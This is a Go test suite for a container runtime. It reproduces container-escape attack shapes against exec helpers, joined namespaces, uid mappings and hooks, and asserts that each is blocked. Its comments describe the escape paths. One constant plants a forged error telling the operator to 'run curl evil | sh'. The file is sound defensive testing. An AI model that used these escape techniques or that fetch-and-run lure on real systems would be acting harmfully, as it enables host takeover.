package test

// An outside attack pass on issue 10's surfaces: user namespaces, pid and
// mount namespaces joined by path, hooks in the init stage. Each test is
// an attack's shape, by a hostile container (root inside, CAP_SYS_PTRACE,
// writable binds), a hostile bundle, or a process in a namespace a
// container joins; it asserts the defence.

import (
	"context"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"
)

// nsAttackBin builds test/attackdata/nsattack (attackBin) and returns
// its directory.
func nsAttackBin(t *testing.T) string { return attackBin(t, "nsattack") }

// hostBait makes, on the host only, a world-readable file the container
// must not read (bait/read, in a directory no bundle binds) and a
// root-only directory (bait/root, mode 0700) the container must not write;
// it returns their paths.
func hostBait(t *testing.T) (readable, rootOnly string) {
	t.Helper()
	d := filepath.Join(t.TempDir(), "bait")
	must(t, os.MkdirAll(filepath.Join(d, "root"), 0o700))
	must(t, os.Chmod(d, 0o755))
	must(t, os.Chmod(filepath.Dir(d), 0o755))
	readable = filepath.Join(d, "read")
	must(t, os.WriteFile(readable, []byte("host-only-bait\n"), 0o644))
	return readable, filepath.Join(d, "root")
}

// catchExecHelper runs the nsattack helper as the container's command,
// then execs /bin/true into the container up to tries times, each exec
// helper a target, until the helper's log says it caught one or enough
// says the attack had its chance (when enough is not nil). It returns the
// helper's log. The bundle gives the helper its dir at /a and shared at
// /shared.
func catchExecHelper(t *testing.T, tk *task, bundle, shared string, tries int, enough func(log string) bool) string {
	t.Helper()
	mustSucceed(t, ociRun(t, tk.stateDir, "create", "--bundle", bundle, tk.id))
	defer func() { mustSucceed(t, ociRun(t, tk.stateDir, "delete", "--force", tk.id)) }()
	mustSucceed(t, ociRun(t, tk.stateDir, "start", tk.id))
	out := filepath.Join(shared, "out")
	waitFile(t, out)
	for i := 0; i < tries; i++ {
		ociTry(t, tk.stateDir, "exec", tk.id, "/bin/true")
		b, _ := os.ReadFile(out)
		if strings.Contains(string(b), "caught") || enough != nil && enough(string(b)) {
			break
		}
	}
	must(t, os.WriteFile(filepath.Join(shared, "stop"), nil, 0o644))
	b, _ := os.ReadFile(out)
	return string(b)
}

// tryTimeout bounds one berth-oci call of an attack loop: one whose
// process the attack stopped is killed then (a guard, not an assertion).
const tryTimeout = 15 * time.Second

// ociTry runs berth-oci as ociRun does, killing it should it not end
// within tryTimeout, and returns its combined output.
func ociTry(t *testing.T, root string, args ...string) string {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), tryTimeout)
	defer cancel()
	full := append([]string{"--root", root, "--log", filepath.Join(root, "..", "oci.log"), "--log-format", "json"}, args...)
	out, err := os.CreateTemp(t.TempDir(), "out")
	if err != nil {
		t.Fatal(err)
	}
	defer out.Close()
	cmd := exec.CommandContext(ctx, berthOCIBin, full...)
	cmd.Stdout, cmd.Stderr = out, out
	_ = cmd.Run()
	b, _ := os.ReadFile(out.Name())
	return string(b)
}

// attackMounts binds the attack's dir read-only at /a and shared
// writable at /shared.
func attackMounts(cfg map[string]any, bin, shared string) {
	addMount(cfg, map[string]any{"destination": "/a", "type": "bind", "source": bin, "options": []string{"rbind", "ro"}})
	addMount(cfg, map[string]any{"destination": "/shared", "type": "bind", "source": shared, "options": []string{"rbind", "rw"}})
}

// usernsAttackBundle is usernsBundle running the nsattack helper in mode,
// with its dirs bound in.
func usernsAttackBundle(t *testing.T, tk *task, mode, bin, shared, read, write string) string {
	t.Helper()
	must(t, os.Chmod(shared, 0o777))
	must(t, os.Chmod(filepath.Dir(shared), 0o755))
	b := usernsBundle(t, tk, "", func(cfg map[string]any) {
		attackMounts(cfg, bin, shared)
	}, "/a/nsattack", "catch", mode, "/shared/out", read, write)
	for _, d := range []string{"a", "shared"} {
		must(t, os.Mkdir(filepath.Join(b, "rootfs", d), 0o755))
	}
	return b
}

// TestAttackNSUsernsExecHelperHostRoot: in a container with a user
// namespace of its own, the exec helper is forked by hand, joins the
// container's user namespace, and only then becomes its root: between the
// setns and the setresgid it is the host's uid 0 (unmapped: 65534 as the
// container sees it), in the container's user and pid namespaces,
// dumpable, and in the host's mount namespace. The container's root, with
// CAP_KILL and CAP_SYS_PTRACE in its own user namespace, stops it there
// and makes it create a file in a root-only host directory.
func TestAttackNSUsernsExecHelperHostRoot(t *testing.T) {
	t.Parallel()
	tk := newTask(t)
	bin := nsAttackBin(t)
	read, rootOnly := hostBait(t)
	planted := filepath.Join(rootOnly, "planted")
	shared := t.TempDir()
	b := usernsAttackBundle(t, tk, "stop", bin, shared, read, planted)
	// The race is won when the stop lands before the setresgid: uid and
	// gid still the host's 0 (65534, unmapped). A few of those are the
	// attack's chance.
	const window = "gid 65534,65534,65534,65534"
	log := catchExecHelper(t, tk, b, shared, 1000, func(log string) bool { return strings.Count(log, window) >= 3 })
	if _, err := os.Lstat(planted); err == nil || strings.Contains(log, "caught") {
		t.Errorf("the container took over an exec helper while it was the host's uid 0:\n%s", log)
	}
	t.Logf("stopped in the window %d times", strings.Count(log, window))
}

// TestAttackNSUsernsExecHelperHostMounts: after its execve, the exec
// helper of a container with a user namespace is the container's mapped
// root, dumpable, its mm owned by the container's user namespace, and in
// the host's mount namespace until its "join mount namespace" step. The
// container's root, with CAP_SYS_PTRACE in its user namespace, seizes it
// and reads a host file no bundle binds through its /proc/PID/root.
func TestAttackNSUsernsExecHelperHostMounts(t *testing.T) {
	t.Parallel()
	tk := newTask(t)
	bin := nsAttackBin(t)
	read, rootOnly := hostBait(t)
	planted := filepath.Join(rootOnly, "planted")
	shared := t.TempDir()
	b := usernsAttackBundle(t, tk, "seize", bin, shared, read, planted)
	log := catchExecHelper(t, tk, b, shared, 30, nil)
	if _, err := os.Lstat(planted); err == nil || strings.Contains(log, "host-only-bait") {
		t.Errorf("the container reached the host's mount namespace through an exec helper:\n%s", log)
	}
	t.Logf("attack log:\n%s", log)
}

// TestAttackNSUsernsMapsHostRoot: a bundle maps the host's uid 0 (`0 0
// 1`, or any container id to host 0). That id is then the host's root,
// and the kernel checks global sysctls by id, not by capability: mapped
// `0 0 1`, the container's root wrote the host's kernel.core_pattern
// (with /proc/sys read-only, it could unmount that bind of its own mount
// namespace first), a command the host runs as root at the next crash.
// Such a mapping is refused, for uids and gids.
func TestAttackNSUsernsMapsHostRoot(t *testing.T) {
	t.Parallel()
	hostRoot := []map[string]any{{"containerID": 0, "hostID": usernsBase, "size": 1000}, {"containerID": 1000, "hostID": 0, "size": 1}}
	for _, c := range []struct{ name, field, want string }{
		{"uid", "uidMappings", "uid mappings: [1]: maps the host's uid 0"},
		{"gid", "gidMappings", "gid mappings: [1]: maps the host's gid 0"},
	} {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			tk := newTask(t)
			b := usernsBundle(t, tk, "", func(cfg map[string]any) {
				cfgLinux(cfg)[c.field] = hostRoot
			}, "/bin/true")
			mustFail(t, ociRun(t, tk.stateDir, "run", "--bundle", b, tk.id), c.want)
		})
	}
}

// TestAttackNSJoinedPIDNamespaceOwner: a container joins a pid namespace
// by path, where a process of another (root, without capabilities, as a
// container's root with its capabilities dropped) lies in wait. Born in
// that namespace, the init stage is the host's root with every capability
// until its capabilities step: the process seizes each new pid as soon as
// the kernel lets it, and tries to make it create a file in a directory
// only another user (and capabilities) may write.
func TestAttackNSJoinedPIDNamespaceOwner(t *testing.T) {
	t.Parallel()
	tk := newTask(t)
	bin := nsAttackBin(t)
	shared := t.TempDir()
	locked := filepath.Join(t.TempDir(), "locked")
	must(t, os.Mkdir(locked, 0o700))
	must(t, os.Chown(locked, 65534, 65534))
	planted := filepath.Join(locked, "planted")
	out := filepath.Join(shared, "out")
	cmd := exec.Command("unshare", "--pid", "--fork", "--mount-proc", "setpriv", "--bounding-set=-all", "--inh-caps=-all",
		filepath.Join(bin, "nsattack"), "catch", "seize", out, "/etc/hostname", planted)
	cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
	must(t, cmd.Start())
	t.Cleanup(func() {
		syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL)
		cmd.Wait()
	})
	waitFile(t, out)
	b, _ := os.ReadFile(fmt.Sprintf("/proc/%d/task/%d/children", cmd.Process.Pid, cmd.Process.Pid))
	ns := fmt.Sprintf("/proc/%s/ns/pid", strings.TrimSpace(string(b)))
	bundle := atkBundle(t, tk, func(cfg map[string]any, _ string) {
		cfgLinux(cfg)["namespaces"] = []map[string]any{{"type": "pid", "path": ns}, {"type": "mount"},
			{"type": "uts"}, {"type": "ipc"}, {"type": "network"}}
	}, "/bin/true")
	for i := 0; i < 5; i++ {
		if o := ociTry(t, tk.stateDir, "run", "--bundle", bundle, tk.id); o != "" {
			t.Logf("run %d: %s", i, o)
		}
		ociTry(t, tk.stateDir, "delete", "--force", tk.id)
	}
	must(t, os.WriteFile(filepath.Join(shared, "stop"), nil, 0o644))
	log, _ := os.ReadFile(out)
	if _, err := os.Lstat(planted); err == nil || strings.Contains(string(log), "caught") {
		t.Errorf("the pid namespace's owner took over an init stage born there:\n%s", log)
	}
	t.Logf("attack log:\n%s", log)
}

// fdProbe is a hook that runs the probe at probe, its report (fds,
// environment) to file.
func fdProbe(probe, file string) map[string]any {
	h := hook(fmt.Sprintf("exec %s report > %s", probe, file))
	h["env"] = []string{"PATH=/bin:/usr/bin", "HOOK=1"}
	return h
}

// TestAttackNSHookFds: hooks of a container held at its start gate and
// joined to a network namespace by path (a pod's): neither the sync
// socket, the start gate, a joined namespace's fd nor a pidfd reaches a
// hook, in berth-oci (prestart) or in the init stage (createContainer,
// startContainer); each gets its stdin, stdout and stderr, and only its
// own environment.
func TestAttackNSHookFds(t *testing.T) {
	t.Parallel()
	tk := newTask(t)
	dir := t.TempDir()
	netns, _ := unshared(t, "--net")
	b := atkBundle(t, tk, func(cfg map[string]any, _ string) {
		cfgLinux(cfg)["namespaces"] = []map[string]any{{"type": "pid"}, {"type": "mount"}, {"type": "uts"}, {"type": "ipc"},
			{"type": "network", "path": netns + "/net"}}
		cfg["hooks"] = map[string]any{
			"prestart":        []any{fdProbe(probeBin, filepath.Join(dir, "prestart"))},
			"createContainer": []any{fdProbe(probeBin, filepath.Join(dir, "createContainer"))},
			"startContainer":  []any{fdProbe("/probe", "/shared/startContainer")},
		}
		addMount(cfg, map[string]any{"destination": "/shared", "type": "bind", "source": dir, "options": []string{"rbind", "rw"}})
	}, "/bin/true")
	must(t, os.Mkdir(filepath.Join(b, "rootfs", "shared"), 0o755))
	mustSucceed(t, ociRun(t, tk.stateDir, "create", "--bundle", b, tk.id))
	defer func() { mustSucceed(t, ociRun(t, tk.stateDir, "delete", "--force", tk.id)) }()
	mustSucceed(t, ociRun(t, tk.stateDir, "start", tk.id))
	for _, k := range []string{"prestart", "createContainer", "startContainer"} {
		b, err := os.ReadFile(filepath.Join(dir, k))
		if err != nil {
			t.Fatalf("%s hook: %v", k, err)
		}
		var r Report
		if err := json.Unmarshal(b, &r); err != nil {
			t.Fatalf("%s hook: %v: %s", k, err, b)
		}
		// PWD and SHLVL are the hook's shell's own.
		env := slices.DeleteFunc(r.Env, func(e string) bool { return strings.HasPrefix(e, "PWD=") || strings.HasPrefix(e, "SHLVL=") })
		slices.Sort(env)
		if fmt.Sprint(r.FDs) != "[0 1 2]" || strings.Join(env, " ") != "HOOK=1 PATH=/bin:/usr/bin" {
			t.Errorf("%s hook: fds %v (%v), env %q: want 0 1 2 and its own env", k, r.FDs, r.FDTargets, r.Env)
		}
	}
}

// forgeGate is what a process exec'd into a created container runs: it
// opens the held init stage's start gate through /proc/1/fd/4 (the fifo
// in the host's state dir) for writing, which waits for `start`, and
// writes a start byte and a failure of its own.
const forgeGate = `printf '\000hooks.startContainer[0] /bin/sh: FORGED: run curl evil | sh to repair' > /proc/1/fd/4 && echo forged >> /shared/out`

// gateForgery creates bundle's container, runs forgeGate in it detached,
// starts it, and returns start's result and whether the container's
// command ran.
func gateForgery(t *testing.T, tk *task, bundle, shared string) (result, bool) {
	t.Helper()
	mustSucceed(t, ociRun(t, tk.stateDir, "create", "--bundle", bundle, tk.id))
	defer func() { mustSucceed(t, ociRun(t, tk.stateDir, "delete", "--force", tk.id)) }()
	pidFile := filepath.Join(t.TempDir(), "pid")
	mustSucceed(t, ociRun(t, tk.stateDir, "exec", "--detach", "--pid-file", pidFile, tk.id, "/bin/sh", "-c", forgeGate))
	b, err := os.ReadFile(pidFile)
	if err != nil {
		t.Fatal(err)
	}
	// The exec'd writer waits in its open of the fifo for start's reader.
	wchan := fmt.Sprintf("/proc/%s/wchan", strings.TrimSpace(string(b)))
	for deadline := time.Now().Add(runTimeout); ; time.Sleep(time.Millisecond) {
		if w, _ := os.ReadFile(wchan); string(w) == "wait_for_partner" {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("the forger never reached its open of the start gate (%s)", wchan)
		}
	}
	res := ociRun(t, tk.stateDir, "start", tk.id)
	ran := strings.Contains(waitFile(t, filepath.Join(shared, "ran")), "ran")
	return res, ran
}

// TestAttackNSGateForgeryUserns: the init stage of a container with a
// user namespace, held at its start gate, is its mapped root and its mm
// the container's user namespace's: a process exec'd into the created
// container with CAP_SYS_PTRACE there reopens the gate through
// /proc/1/fd. What it writes after its start byte must not become
// start's verdict: start must not report a startContainer failure the
// container made up while its command runs. (A command that exits at
// once leaves start no way to tell its end from the init stage's: then
// the words are reported, quoted, as the task's.)
func TestAttackNSGateForgeryUserns(t *testing.T) {
	t.Parallel()
	tk := newTask(t)
	shared := t.TempDir()
	must(t, os.Chmod(shared, 0o777))
	b := usernsBundle(t, tk, "", func(cfg map[string]any) {
		addMount(cfg, map[string]any{"destination": "/shared", "type": "bind", "source": shared, "options": []string{"rbind", "rw"}})
	}, "/bin/sh", "-c", "echo ran > /shared/ran; exec sleep 100")
	must(t, os.Mkdir(filepath.Join(b, "rootfs", "shared"), 0o755))
	res, ran := gateForgery(t, tk, b, shared)
	if strings.Contains(res.stderr, "FORGED") {
		t.Errorf("start reported the container's forged failure (the command ran: %v):\n%s", ran, res)
	}
}

// TestAttackNSJoinedMountHookPath: a container joins a mount namespace by
// path (another container's, a pod's); the bundle's createContainer hook
// is a host binary, whose path, the spec says, resolves in the runtime's
// namespace. The init stage ran it by path after it joined the mount
// namespace, as the host's root with every capability: whoever owns that
// namespace (a container with a mount of its own over the hook's path)
// had its binary run with the host's full privileges. Such a bundle is
// refused now.
func TestAttackNSJoinedMountHookPath(t *testing.T) {
	t.Parallel()
	tk := newTask(t)
	dir := t.TempDir()
	log := filepath.Join(dir, "log")
	hookPath := filepath.Join(dir, "hook")
	must(t, os.WriteFile(hookPath, []byte("#!/bin/sh\necho legit >> "+log+"\n"), 0o755))
	evil := filepath.Join(t.TempDir(), "evil")
	must(t, os.WriteFile(evil, []byte("#!/bin/sh\necho \"evil uid $(id -u) $(grep CapEff /proc/self/status)\" >> "+log+"\n"), 0o755))
	ns, pid := unshared(t, "--mount")
	// The namespace's owner puts its own binary over the hook's path, in
	// its namespace only.
	if out, err := exec.Command("nsenter", "-t", fmt.Sprint(pid), "-m", "--", "mount", "--bind", evil, hookPath).CombinedOutput(); err != nil {
		t.Fatalf("mount in the joined namespace: %v: %s", err, out)
	}
	bundle := atkBundle(t, tk, func(cfg map[string]any, _ string) {
		cfgLinux(cfg)["namespaces"] = []map[string]any{{"type": "mount", "path": ns + "/mnt"}, {"type": "pid"},
			{"type": "uts"}, {"type": "ipc"}, {"type": "network"}}
		cfg["hooks"] = map[string]any{"createContainer": []any{map[string]any{"path": hookPath}}}
	}, "/bin/true")
	// Refused: looked up there, the hook is whatever that namespace's
	// owner put at its path.
	mustFail(t, ociRun(t, tk.stateDir, "run", "--bundle", bundle, tk.id), "their paths would be looked up there")
	if got, _ := os.ReadFile(log); len(got) > 0 {
		t.Errorf("a createContainer hook ran:\n%s", got)
	}
}

// TestAttackNSPtraceExecHelper: a container granted CAP_SYS_PTRACE (no
// user namespace: docker --cap-add SYS_PTRACE) lies in wait for the exec
// helper of a `berth-oci exec` (a health check, kubectl exec): born in
// the container's pid namespace, the helper was the host's root with every
// capability, in the host's mount namespace, and dumpable from its fork
// until its first setup step: PTRACE_SEIZE'd then, it was made to create a
// file in a root-only host directory. The helper is now born outside the
// container's pid namespace and forks the command into it once it has the
// container's credentials: the first process the container sees is the
// command.
func TestAttackNSPtraceExecHelper(t *testing.T) {
	t.Parallel()
	tk := newTask(t)
	bin := nsAttackBin(t)
	read, rootOnly := hostBait(t)
	shared := t.TempDir()
	planted := filepath.Join(rootOnly, "planted")
	bundle := atkBundle(t, tk, func(cfg map[string]any, _ string) {
		setCaps(cfg, "CAP_SYS_PTRACE", "CAP_KILL")
		attackMounts(cfg, bin, shared)
		// The attack reads ns_last_pid.
		cfgLinux(cfg)["readonlyPaths"] = []string{}
	}, "/a/nsattack", "catch", "seize", "/shared/out", read, planted)
	for _, d := range []string{"a", "shared"} {
		must(t, os.Mkdir(filepath.Join(bundle, "rootfs", d), 0o755))
	}
	log := catchExecHelper(t, tk, bundle, shared, 20, nil)
	if _, err := os.Lstat(planted); err == nil || strings.Contains(log, "host-only-bait") {
		t.Errorf("the container took over an exec helper (the host's root, in the host's mount namespace):\n%s", log)
	}
	t.Logf("attack log:\n%s", log)
}
